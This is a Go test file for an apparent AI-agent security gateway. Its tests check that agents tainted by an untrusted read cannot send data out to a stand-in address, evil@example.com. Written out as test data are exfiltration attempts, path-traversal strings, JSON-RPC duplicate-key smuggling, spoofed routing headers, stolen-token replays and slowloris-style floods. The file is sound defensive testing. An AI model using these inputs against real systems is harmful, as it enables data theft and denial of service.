package enforce_test

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/warden-run/warden/internal/app"
	"github.com/warden-run/warden/internal/enforce"
	"github.com/warden-run/warden/internal/enforce/mcpgw"
	"github.com/warden-run/warden/internal/store"
	"github.com/warden-run/warden/sdk"
)

// A taint is the agent's: after one untrusted read, no session, protocol
// version, header or enforcement point of the agent's choosing lets it
// send data out. (Issue 10, item 1: each of these was allowed.)
func TestAttackTaintCannotBeShed(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	a := r.agent("ai-agent://dev/injected")
	s := r.session(a, "2025-11-25", nil)
	if !r.call(s, "mail__send", map[string]string{"to": "boss@example.com"}) {
		t.Fatal("mail before any untrusted read was denied")
	}
	if !r.call(s, "web__fetch", map[string]string{"url": "https://evil.example"}) {
		t.Fatal("the untrusted read was denied")
	}
	evil := map[string]string{"to": "evil@example.com"}
	for _, tc := range []struct {
		name string
		s    func() *mcp.ClientSession
	}{
		{"the same session", func() *mcp.ClientSession { return s }},
		{"a new session", func() *mcp.ClientSession { return r.session(a, "2025-11-25", nil) }},
		{"an older protocol", func() *mcp.ClientSession { return r.session(a, "2024-11-05", nil) }},
		{"no session (2026-07-28)", func() *mcp.ClientSession { return r.session(a, "", nil) }},
		{"a task header of its own", func() *mcp.ClientSession { return r.session(a, "", http.Header{"Warden-Task": {"fresh"}}) }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if r.call(tc.s(), "mail__send", evil) {
				t.Fatal("exfiltration allowed")
			}
		})
	}
	t.Run("the HTTP proxy", func(t *testing.T) {
		if status, body := r.do(a, "POST", "/out/send", `{"to":"evil@example.com"}`); status != http.StatusForbidden {
			t.Fatalf("egress through the proxy: %d %s", status, body)
		}
	})
	// And the other way: an untrusted page read through the proxy taints
	// the agent's MCP calls.
	b := r.agent("ai-agent://dev/browser")
	if status, _ := r.do(b, "GET", "/pages/news", ""); status != http.StatusOK {
		t.Fatalf("reading a page: %d", status)
	}
	if r.call(r.session(b, "", nil), "mail__send", evil) {
		t.Fatal("exfiltration over MCP after an untrusted page was read through the proxy")
	}
	if got := r.egress(); len(got) != 1 || got[0] != "mail boss@example.com" {
		t.Fatalf("what went out: %v", got)
	}
	// The taint ends on an operator's word, on the record.
	if _, err := r.w.App.Taints.Clear(r.ctx, "admin:test", store.TaintSelection{AgentID: a.id, AnyTask: true}, "reviewed"); err != nil {
		t.Fatal(err)
	}
	if !r.call(s, "mail__send", map[string]string{"to": "boss@example.com"}) {
		t.Fatal("mail after the taint was cleared")
	}
}

// egress: true from gateway.yaml holds although the catalog's wildcard
// entry for the tool says something else. (Item 3: the wildcard entry
// replaced the gateway's attributes, and the guardrail never fired.)
func TestAttackCatalogCannotDropEgress(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	a := r.agent("ai-agent://dev/sharer")
	s := r.session(a, "", nil)
	if !r.call(s, "web__fetch", map[string]string{"url": "https://evil.example"}) {
		t.Fatal("the untrusted read was denied")
	}
	if r.call(s, "kb__share", map[string]string{"with": "evil@example.com"}) {
		t.Fatal("kb__share, an egress tool by the gateway's configuration, was allowed to a tainted agent")
	}
	if !r.call(s, "kb__search", nil) {
		t.Fatal("kb__search, not an egress tool, was denied")
	}
}

// Under a redact obligation nothing of the field passes, in text or in an
// embedded resource (item 2: an embedded resource passed whole; every
// content type is in mcpgw's TestRedactEveryContentType).
func TestAttackRedactionEmbeddedResource(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	res, err := r.session(r.agent("ai-agent://dev/clerk"), "", nil).CallTool(r.ctx, &mcp.CallToolParams{Name: "records__customer"})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range res.Content {
		b, _ := c.MarshalJSON()
		if strings.Contains(string(b), "123-45-6789") {
			t.Fatalf("the ssn passed in %s", b)
		}
	}
}

// A token stolen from an agent in a domain that requires DPoP is useless
// without the key, also once the agent is quarantined. (Item 6: the
// quarantined agent's token passed the edge without a proof.)
func TestAttackLeakedTokenOfInactiveAgent(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	a := r.agent("ai-agent://prod/victim")
	tok, err := a.mcp.Token(r.ctx)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := r.w.App.Registry.SetStatus(r.ctx, "admin:test", a.id, store.StatusQuarantined, "compromised"); err != nil {
		t.Fatal(err)
	}
	initialize := `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"thief","version":"1"}}}`
	for _, scheme := range []string{"Bearer", "DPoP"} {
		req, _ := http.NewRequest("POST", r.mcpURL, strings.NewReader(initialize))
		req.Header.Set("Authorization", scheme+" "+tok.AccessToken)
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Accept", "application/json, text/event-stream")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusUnauthorized {
			t.Fatalf("%s token of a quarantined agent, no proof: status %d, want 401", scheme, resp.StatusCode)
		}
	}
	// A thief with the key too: once the key is retired, its proofs open
	// nothing, though the agent is quarantined (which used to be reported
	// before the key binding was checked).
	if _, err := r.w.App.Registry.RotateKey(r.ctx, "admin:test", a.id, sdk.GenerateKey().PublicJWK(), 0); err != nil {
		t.Fatal(err)
	}
	proof, err := a.key.DPoPProof("POST", r.mcpURL, tok.AccessToken)
	if err != nil {
		t.Fatal(err)
	}
	req, _ := http.NewRequest("POST", r.mcpURL, strings.NewReader(initialize))
	req.Header.Set("Authorization", "DPoP "+tok.AccessToken)
	req.Header.Set("DPoP", proof)
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "application/json, text/event-stream")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnauthorized {
		t.Fatalf("a proof of a retired key, for a quarantined agent: status %d, want 401", resp.StatusCode)
	}
}

// A token issued for one of the gateway's resources does not open
// another. (Audience confusion.)
func TestAttackAudienceConfusion(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	a := r.agent("ai-agent://dev/confused")
	httpTok, err := a.http.Token(r.ctx)
	if err != nil {
		t.Fatal(err)
	}
	mcpTok, err := a.mcp.Token(r.ctx)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, url, token string
	}{
		{"the proxy's token at the MCP endpoint", r.mcpURL, httpTok.AccessToken},
		{"the MCP endpoint's token at the proxy", r.httpURL + "/api/x", mcpTok.AccessToken},
	} {
		t.Run(tc.name, func(t *testing.T) {
			req, _ := http.NewRequest("POST", tc.url, strings.NewReader(`{}`))
			req.Header.Set("Authorization", "Bearer "+tc.token)
			req.Header.Set("Content-Type", "application/json")
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusUnauthorized {
				t.Fatalf("status %d, want 401", resp.StatusCode)
			}
		})
	}
}

// What the upstream runs is what was decided, whatever the JSON-RPC
// message does with keys, ids and batches.
func TestAttackJSONRPCEdgeCases(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	a := r.agent("ai-agent://dev/rpc")
	if !r.call(r.session(a, "", nil), "web__fetch", map[string]string{"url": "https://evil.example"}) { // tainted: mail__send is denied from here on
		t.Fatal("the untrusted read was denied")
	}
	h := http.Header{"Mcp-Protocol-Version": {"2026-07-28"}, "Mcp-Method": {"tools/call"}, "Mcp-Name": {"mail__send"}}
	meta := `"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientCapabilities":{}}`
	for _, tc := range []struct{ name, body string }{
		{"the tool named twice", `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{` + meta + `,"name":"kb__search","name":"mail__send","arguments":{"to":"evil@example.com"}}}`},
		{"params twice", `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{` + meta + `,"name":"kb__search"},"params":{` + meta + `,"name":"mail__send","arguments":{"to":"evil@example.com"}}}`},
		{"a batch", `[{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{` + meta + `,"name":"mail__send","arguments":{"to":"evil@example.com"}}}]`},
		{"an object id", `{"jsonrpc":"2.0","id":{"x":1},"method":"tools/call","params":{` + meta + `,"name":"mail__send","arguments":{"to":"evil@example.com"}}}`},
		{"a null id", `{"jsonrpc":"2.0","id":null,"method":"tools/call","params":{` + meta + `,"name":"mail__send","arguments":{"to":"evil@example.com"}}}`},
		{"no id", `{"jsonrpc":"2.0","method":"tools/call","params":{` + meta + `,"name":"mail__send","arguments":{"to":"evil@example.com"}}}`},
		{"another method case", `{"jsonrpc":"2.0","id":1,"method":"Tools/Call","params":{` + meta + `,"name":"mail__send","arguments":{"to":"evil@example.com"}}}`},
		{"method twice", `{"jsonrpc":"2.0","id":1,"method":"tools/list","method":"tools/call","params":{` + meta + `,"name":"mail__send","arguments":{"to":"evil@example.com"}}}`},
		{"jsonrpc 1.0", `{"jsonrpc":"1.0","id":1,"method":"tools/call","params":{` + meta + `,"name":"mail__send","arguments":{"to":"evil@example.com"}}}`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if _, body := r.raw(a, tc.body, h); strings.Contains(body, `"sent"`) {
				t.Fatalf("executed: %s", body)
			}
		})
	}
	if got := r.egress(); len(got) != 0 {
		t.Fatalf("sent out although denied: %v", got)
	}
	// Arguments that name a key twice, or two keys that differ only in
	// case, are refused: upstreams differ on which one they read (the
	// first, the last, or either, as Go's decoder matches fields).
	b := r.agent("ai-agent://dev/dupargs")
	for _, args := range []string{`{"to":"boss@example.com","to":"evil@example.com"}`, `{"to":"boss@example.com","TO":"evil@example.com"}`,
		`{"msg":{"to":"boss@example.com","tO":"evil@example.com"}}`} {
		_, body := r.raw(b, `{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{`+meta+`,"name":"mail__send","arguments":`+args+`}}`, h)
		if !strings.Contains(body, "-32602") || !strings.Contains(body, "arguments") {
			t.Fatalf("arguments %s: %s", args, body)
		}
	}
	if got := r.egress(); len(got) != 0 {
		t.Fatalf("sent: %v", got)
	}
}

// decisionOf finds the latest decision id of agent on resource in the log.
func decisionOf(t *testing.T, r *rig, agent, resource string) string {
	t.Helper()
	n, err := r.w.App.Audit.Size(r.ctx)
	if err != nil {
		t.Fatal(err)
	}
	raw, err := r.w.App.Audit.Read(r.ctx, 0, n)
	if err != nil {
		t.Fatal(err)
	}
	id := ""
	for _, b := range raw {
		if strings.Contains(string(b), agent) && strings.Contains(string(b), `"id":"`+resource+`"`) {
			var e struct {
				DecisionID string `json:"decision_id"`
			}
			if err := jsonUnmarshal(b, &e); err == nil && e.DecisionID != "" {
				id = e.DecisionID
			}
		}
	}
	if id == "" {
		t.Fatalf("no decision of %s on %s", agent, resource)
	}
	return id
}

// Paths an upstream could resolve elsewhere than the decision's resource
// never reach it: the listener's router sends a path that is not clean to
// its clean form (where it is decided anew), and the proxy refuses what
// the router lets through (escaped dots and slashes, backslashes,
// parameters).
func TestAttackPathTricks(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	a := r.agent("ai-agent://dev/walker")
	if status, _ := r.do(a, "GET", "/pages/news", ""); status != http.StatusOK { // tainted: /out/ is denied from here on
		t.Fatalf("reading a page: %d", status)
	}
	noFollow := &http.Client{Transport: a.http.Transport(nil), CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	for _, p := range []string{"/api/../out/send", "/api/%2e%2e/out/send", "/api//out", "/api/x/%2e/y", "/api/.%2e/out", "/api/a%5c..%5cb",
		"/api/a;/../b", "/api/a/..;/b", "/api/%2fout", "/pages/..%2f..%2fout/send"} {
		t.Run(p, func(t *testing.T) {
			req, _ := http.NewRequest("POST", r.httpURL+p, strings.NewReader(`{"to":"evil@example.com"}`))
			req.Header.Set("Content-Type", "application/json")
			resp, err := noFollow.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusBadRequest && resp.StatusCode != http.StatusMovedPermanently && resp.StatusCode != http.StatusTemporaryRedirect {
				t.Fatalf("status %d, want 400, or a redirect to the clean path", resp.StatusCode)
			}
		})
	}
	// Following the redirects, each request is decided on the clean path:
	// nothing reaches the egress route of a tainted agent.
	for _, p := range []string{"/api/../out/send", "/pages/../out/send"} {
		if status, _ := r.do(a, "POST", p, `{"to":"evil@example.com"}`); status == http.StatusOK {
			t.Fatalf("%s: reached an upstream", p)
		}
	}
	if got := r.egress(); len(got) != 0 {
		t.Fatalf("reached an egress route: %v", got)
	}
}

// One agent cannot hold the gateway's MCP sessions: past its cap, and past
// the gateway's, opening one more is refused with 429 or 503, and ending
// one makes room. (Item 5: 4,000 sessions in 12 s, kept.)
func TestAttackSessionFlood(t *testing.T) {
	t.Parallel()
	r := newRig(t, func(gc *app.GatewayConfig) { gc.MCP.MaxSessionsPerAgent, gc.MCP.MaxSessions = 3, 5 })
	a := r.agent("ai-agent://dev/flooder")
	var open []*mcp.ClientSession
	for range 3 {
		open = append(open, r.session(a, "2025-11-25", nil))
	}
	initialize := `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"x","version":"1"}}}`
	resp, body := r.raw(a, initialize, nil)
	if resp.StatusCode != http.StatusTooManyRequests || resp.Header.Get("Retry-After") == "" || !strings.Contains(body, fmt.Sprint(mcpgw.CodeLimit)) {
		t.Fatalf("a fourth session: %d %s", resp.StatusCode, body)
	}
	// Ending one makes room.
	open[0].Close()
	waitFor(t, func() bool {
		resp, _ := r.raw(a, initialize, nil)
		return resp.StatusCode == http.StatusOK
	})
	// The gateway's own cap: 5 in all (a holds 3 again).
	b := r.agent("ai-agent://dev/other")
	r.session(b, "2025-11-25", nil)
	r.session(b, "2025-11-25", nil)
	resp, body = r.raw(b, initialize, nil)
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("past the gateway's cap: %d %s", resp.StatusCode, body)
	}
	// Sessionless calls need no session and still work.
	if !r.call(r.session(b, "", nil), "kb__search", nil) {
		t.Fatal("a sessionless call was denied")
	}
}

// A body trickled in is cut off, and one agent cannot hold more than its
// share of connections. (Item 4: hundreds of connections held for minutes.)
func TestAttackSlowBodyAndConnectionFlood(t *testing.T) {
	t.Parallel()
	r := newRig(t, func(gc *app.GatewayConfig) {
		gc.Limits.BodyTimeout = 500 * time.Millisecond
		gc.Limits.MaxConnectionsPerAgent = 3
	})
	a := r.agent("ai-agent://dev/slowloris")
	tok, err := a.mcp.Token(r.ctx)
	if err != nil {
		t.Fatal(err)
	}
	// Headers, then a body that never finishes: the gateway hangs up.
	c, err := net.Dial("tcp", r.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprintf(c, "POST /mcp HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\nContent-Length: 100000\r\n\r\n{\"jsonrpc\":", r.addr, tok.AccessToken)
	c.SetReadDeadline(time.Now().Add(30 * time.Second)) // the test's own bound, far past the gateway's
	start := time.Now()
	buf := make([]byte, 4096)
	for {
		if _, err := c.Read(buf); err != nil {
			var ne net.Error
			if errors.As(err, &ne) && ne.Timeout() {
				t.Fatalf("the connection was still open after %s", time.Since(start).Round(time.Second))
			}
			break // closed by the gateway
		}
	}
	// The closed connection no longer counts (the server releases it a
	// moment after the client sees it close).
	waitFor(t, func() bool { return r.gw.Conns().Held(a.id) == 0 })
	// Connections: three are the agent's, the fourth is refused and closed.
	var conns []net.Conn
	get := func() (net.Conn, int) {
		c, err := net.Dial("tcp", r.addr)
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(c, "GET /mcp HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nAccept: text/event-stream\r\n\r\n", r.addr, tok.AccessToken)
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, io.LimitReader(resp.Body, 1024))
		resp.Body.Close()
		return c, resp.StatusCode
	}
	for range 3 {
		c, status := get()
		if status == http.StatusTooManyRequests {
			t.Fatal("refused before the agent's cap")
		}
		conns = append(conns, c)
	}
	if c, status := get(); status != http.StatusTooManyRequests {
		t.Fatalf("a fourth connection: status %d, want 429", status)
	} else {
		c.Close()
	}
	conns[0].Close()
	waitFor(t, func() bool { return r.gw.Conns().Held(a.id) < 3 })
	if c, status := get(); status == http.StatusTooManyRequests {
		t.Fatal("refused after one of the agent's connections closed")
	} else {
		c.Close()
	}
	for _, c := range conns[1:] {
		c.Close()
	}
}

func waitFor(t *testing.T, ok func() bool) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for !ok() {
		if time.Now().After(deadline) {
			t.Fatal("not within 10s")
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// A task bound into a token by the agent that delegated it scopes the
// taints of the delegate's reads: a token for another task starts clean,
// the delegate's own tokens see every taint, and the delegate cannot give
// itself a fresh task.
func TestAttackTaskScopes(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	const orchestrator, worker = "ai-agent://dev/orchestrator", "ai-agent://dev/worker"
	ok := r.w.Register(t, orchestrator, "agent", "delegator")
	o, err := sdk.NewClient(r.w.URL, orchestrator, ok, sdk.WithResource(r.mcpURL))
	if err != nil {
		t.Fatal(err)
	}
	wk := r.w.Register(t, worker, "agent", "delegator")
	wc, err := sdk.NewClient(r.w.URL, worker, wk, sdk.WithResource(r.mcpURL))
	if err != nil {
		t.Fatal(err)
	}
	w := &agent{id: worker, key: wk, mcp: wc}
	otok, err := o.Token(r.ctx)
	if err != nil {
		t.Fatal(err)
	}
	forTask := func(task string) *mcp.ClientSession {
		t.Helper()
		tok, err := o.DelegateTask(r.ctx, otok.AccessToken, worker, task)
		if err != nil {
			t.Fatal(err)
		}
		return r.sessionWithToken(tok.AccessToken)
	}
	evil := map[string]string{"to": "evil@example.com"}
	t1 := forTask("ticket-1")
	if !r.call(t1, "web__fetch", map[string]string{"url": "https://evil.example"}) {
		t.Fatal("the untrusted read was denied")
	}
	if r.call(t1, "mail__send", evil) || r.call(forTask("ticket-1"), "mail__send", evil) {
		t.Fatal("egress under the tainted task")
	}
	if r.call(r.session(w, "", nil), "mail__send", evil) {
		t.Fatal("egress with the worker's own token, which sees every taint of the worker")
	}
	if !r.call(forTask("ticket-2"), "mail__send", map[string]string{"to": "boss@example.com"}) {
		t.Fatal("a fresh task is not clean")
	}
	// The worker cannot give itself a fresh task: not by delegating to
	// itself, not with its own grant, not by rebinding a task token.
	if _, err := w.mcp.DelegateTask(r.ctx, mustToken(t, w.mcp), worker, "fresh"); err == nil {
		t.Fatal("the worker delegated its own token to itself with a fresh task")
	}
	t1tok, err := o.DelegateTask(r.ctx, otok.AccessToken, worker, "ticket-1")
	if err != nil {
		t.Fatal(err)
	}
	const helper = "ai-agent://dev/helper"
	r.w.Register(t, helper, "agent")
	if _, err := w.mcp.DelegateTask(r.ctx, t1tok.AccessToken, helper, "fresh"); err == nil {
		t.Fatal("a task token was delegated on under another task")
	}
	if _, err := w.mcp.Delegate(r.ctx, t1tok.AccessToken, helper); err != nil {
		t.Fatalf("a task token delegated on, keeping its task: %v", err)
	}
	form := url.Values{"grant_type": {"client_credentials"}, "task": {"fresh"}}
	resp, err := http.PostForm(r.w.URL+"/oauth/token", form)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest && resp.StatusCode != http.StatusUnauthorized {
		t.Fatalf("client_credentials with a task: %d", resp.StatusCode)
	}
	if got := r.egress(); len(got) != 1 || got[0] != "mail boss@example.com" {
		t.Fatalf("what went out: %v", got)
	}
}

func mustToken(t *testing.T, c *sdk.Client) string {
	t.Helper()
	tok, err := c.Token(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	return tok.AccessToken
}

// A list costs what it decides: each tool shown is evaluated, so an agent
// listing in a loop spends its rate per tool, not per request.
func TestAttackListFloodPaysPerItem(t *testing.T) {
	t.Parallel()
	r := newRig(t, func(gc *app.GatewayConfig) { gc.RateLimit = &enforce.RateLimit{Rate: 1, Burst: 20} })
	s := r.session(r.agent("ai-agent://dev/lister"), "", nil) // a few requests of the burst
	for i := range 10 {
		_, err := s.ListTools(r.ctx, nil)
		if err == nil {
			continue
		}
		if !strings.Contains(err.Error(), "rate limit") {
			t.Fatalf("list %d: %v", i, err)
		}
		return // refused within ten lists of five tools from a burst of 20
	}
	t.Fatal("ten lists of five tools each were answered from a burst of 20 requests")
}

// A body over the limits is refused before anything is decided, at both
// enforcement points of the listener.
func TestAttackOversizedBodies(t *testing.T) {
	t.Parallel()
	r := newRig(t, func(gc *app.GatewayConfig) {
		gc.MCP.MaxRequestBytes = 4096
		gc.HTTP.MaxBodyBytes = 4096
	})
	a := r.agent("ai-agent://dev/bulky")
	big := strings.Repeat("x", 8192)
	resp, _ := r.raw(a, `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"mail__send","arguments":{"to":"`+big+`"}}}`,
		http.Header{"Mcp-Protocol-Version": {"2026-07-28"}, "Mcp-Method": {"tools/call"}, "Mcp-Name": {"mail__send"}})
	if resp.StatusCode != http.StatusRequestEntityTooLarge && resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("an oversized MCP request: %d", resp.StatusCode)
	}
	if status, _ := r.do(a, "POST", "/out/send", `{"to":"`+big+`"}`); status != http.StatusRequestEntityTooLarge {
		t.Fatalf("an oversized proxied body: %d", status)
	}
	if got := r.egress(); len(got) != 0 {
		t.Fatalf("sent out: %v", got)
	}
}

// A tainted agent cannot have a clean one act for it: a token delegated by
// (or through) a tainted agent sees that agent's taints.
func TestAttackTaintFollowsDelegation(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	const tainted, clean = "ai-agent://dev/tainted-planner", "ai-agent://dev/clean-mailer"
	pk := r.w.Register(t, tainted, "agent", "delegator")
	planner, err := sdk.NewClient(r.w.URL, tainted, pk, sdk.WithResource(r.mcpURL))
	if err != nil {
		t.Fatal(err)
	}
	r.w.Register(t, clean, "agent")
	if !r.call(r.sessionWithToken(mustToken(t, planner)), "web__fetch", map[string]string{"url": "https://evil.example"}) {
		t.Fatal("the untrusted read was denied")
	}
	delegated, err := planner.Delegate(r.ctx, mustToken(t, planner), clean)
	if err != nil {
		t.Fatal(err)
	}
	if r.call(r.sessionWithToken(delegated.AccessToken), "mail__send", map[string]string{"to": "evil@example.com"}) {
		t.Fatal("the clean agent sent data out for the tainted one")
	}
	if got := r.egress(); len(got) != 0 {
		t.Fatalf("sent out: %v", got)
	}
}

// Without credentials nobody holds the listener: a refused request's
// connection is closed, not kept alive, and one address holds at most its
// share of connections. (A client without a token kept 4,096 connections
// idle after their 401s and locked every agent out.)
func TestAttackUnauthenticatedConnectionsDoNotHoldTheListener(t *testing.T) {
	t.Parallel()
	r := newRig(t, func(gc *app.GatewayConfig) {
		gc.Limits.MaxConnections, gc.Limits.MaxConnectionsPerAgent, gc.Limits.MaxConnectionsPerSource = 8, 4, 6
	})
	var idle []net.Conn
	defer func() {
		for _, c := range idle {
			c.Close()
		}
	}()
	for range 8 {
		c, err := net.Dial("tcp", r.addr)
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(c, "GET /mcp HTTP/1.1\r\nHost: %s\r\n\r\n", r.addr)
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusUnauthorized || !resp.Close {
			t.Fatalf("a request without a token: %d, connection kept: %v", resp.StatusCode, !resp.Close)
		}
		idle = append(idle, c)
	}
	// An agent still gets in.
	if !r.call(r.session(r.agent("ai-agent://dev/patient"), "", nil), "kb__search", nil) {
		t.Fatal("the agent's call was denied")
	}
	// Silent connections from one address: past its share, closed at once.
	var silent []net.Conn
	defer func() {
		for _, c := range silent {
			c.Close()
		}
	}()
	for range 6 {
		c, err := net.Dial("tcp", r.addr)
		if err != nil {
			t.Fatal(err)
		}
		silent = append(silent, c)
	}
	extra, err := net.Dial("tcp", r.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer extra.Close()
	extra.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, err := extra.Read(make([]byte, 1)); err == nil || errors.Is(err, os.ErrDeadlineExceeded) {
		t.Fatalf("the address's connection one too many was kept open: %v", err)
	}
}

// What the proxy forwards is what policy saw: a part of a redacted
// answer is not served (a Range started inside the object, past the
// field's path), a form body is read as the query is, and headers that
// some upstreams read instead of the request's own path, method or
// address do not reach them.
func TestAttackProxyForwardsWhatWasDecided(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	a := r.agent("ai-agent://dev/smuggler")
	client := &http.Client{Transport: a.http.Transport(nil)}
	get := func(path string, h http.Header) (int, string) {
		t.Helper()
		status, body, _ := r.send(client, "GET", path, "", "", h)
		return status, body
	}
	for _, rng := range []string{"", "bytes=11-44", "bytes=31-43"} {
		status, body := get("/files/patient.json", http.Header{"Range": {rng}})
		if strings.Contains(body, "123-45-6789") {
			t.Fatalf("Range %q: %d %s", rng, status, body)
		}
	}
	req, _ := http.NewRequest("POST", r.httpURL+"/api/transfer?amount=50", strings.NewReader("amount=5000"))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	resp, err := client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden {
		t.Fatalf("an amount in the form body, over the limit: %d", resp.StatusCode)
	}
	status, body := get("/api/x", http.Header{"X-Original-Url": {"/admin"}, "X-Rewrite-Url": {"/admin"}, "X-Real-Ip": {"10.0.0.1"},
		"True-Client-Ip": {"10.0.0.1"}, "Forwarded": {"for=10.0.0.1"}, "X-Forwarded-Prefix": {"/admin"}})
	var echo struct {
		Headers map[string]string `json:"headers"`
	}
	if status != http.StatusOK || json.Unmarshal([]byte(body), &echo) != nil {
		t.Fatalf("the echo: %d %s", status, body)
	}
	for _, h := range []string{"x-original-url", "x-rewrite-url", "x-real-ip", "true-client-ip", "forwarded", "x-forwarded-prefix"} {
		if v, ok := echo.Headers[h]; ok {
			t.Errorf("the upstream got %s: %s", h, v)
		}
	}
}

// A restricted agent is restricted also when it acts for another: a
// token delegated to it carries its status into policy.
func TestAttackRestrictionFollowsDelegation(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	const planner, worker = "ai-agent://dev/planner", "ai-agent://dev/restricted-worker"
	pk := r.w.Register(t, planner, "agent", "delegator")
	p, err := sdk.NewClient(r.w.URL, planner, pk, sdk.WithResource(r.mcpURL))
	if err != nil {
		t.Fatal(err)
	}
	w := r.agent(worker)
	if _, err := r.w.App.Registry.SetStatus(r.ctx, "admin:test", worker, store.StatusRestricted, "under review"); err != nil {
		t.Fatal(err)
	}
	mail := map[string]string{"to": "boss@example.com"}
	if r.call(r.session(w, "", nil), "mail__send", mail) {
		t.Fatal("the restricted agent sent mail with its own token")
	}
	delegated, err := p.Delegate(r.ctx, mustToken(t, p), worker)
	if err != nil {
		t.Fatal(err)
	}
	if r.call(r.sessionWithToken(delegated.AccessToken), "mail__send", mail) {
		t.Fatal("the restricted agent sent mail with a token delegated to it")
	}
	if got := r.egress(); len(got) != 0 {
		t.Fatalf("sent out: %v", got)
	}
}

// An allow that depends on an obligation the enforcement point cannot
// apply (one it does not know, or a redact path it cannot follow) is
// refused: what policy made the allow depend on would not hold.
func TestAttackObligationsThatCannotBeApplied(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	s := r.session(r.agent("ai-agent://dev/obliged"), "", nil)
	for _, tool := range []string{"records__rows", "records__rows_by_index"} {
		res, err := s.CallTool(r.ctx, &mcp.CallToolParams{Name: tool})
		if err == nil || !strings.Contains(err.Error(), "cannot be applied") {
			t.Fatalf("%s: %v %v", tool, res, err)
		}
	}
}

// A delegate spends its own limits, not its delegator's: a worker holding
// a token delegated by a planner cannot use up the planner's sessions.
func TestAttackDelegateSpendsItsOwnLimits(t *testing.T) {
	t.Parallel()
	r := newRig(t, func(gc *app.GatewayConfig) { gc.MCP.MaxSessionsPerAgent = 2 })
	const planner, worker = "ai-agent://dev/busy-planner", "ai-agent://dev/greedy-worker"
	pk := r.w.Register(t, planner, "agent", "delegator")
	p, err := sdk.NewClient(r.w.URL, planner, pk, sdk.WithResource(r.mcpURL))
	if err != nil {
		t.Fatal(err)
	}
	r.w.Register(t, worker, "agent")
	delegated, err := p.Delegate(r.ctx, mustToken(t, p), worker)
	if err != nil {
		t.Fatal(err)
	}
	for range 2 {
		r.sessionWithToken(delegated.AccessToken)
	}
	// The planner's own sessions are its own.
	for range 2 {
		c := mcp.NewClient(&mcp.Implementation{Name: "planner", Version: "1"}, &mcp.ClientOptions{Capabilities: &mcp.ClientCapabilities{}})
		s, err := c.Connect(r.ctx, &mcp.StreamableClientTransport{Endpoint: r.mcpURL, HTTPClient: &http.Client{Transport: p.Transport(nil)}, MaxRetries: -1},
			&mcp.ClientSessionOptions{ProtocolVersion: "2025-11-25"})
		if err != nil {
			t.Fatalf("the planner's own session: %v", err)
		}
		defer s.Close()
	}
}

// notesServer keeps a note per MCP session, as upstreams keep a login, a
// working directory or a cursor: it speaks only protocol versions with
// sessions.
func notesServer() *mcp.Server {
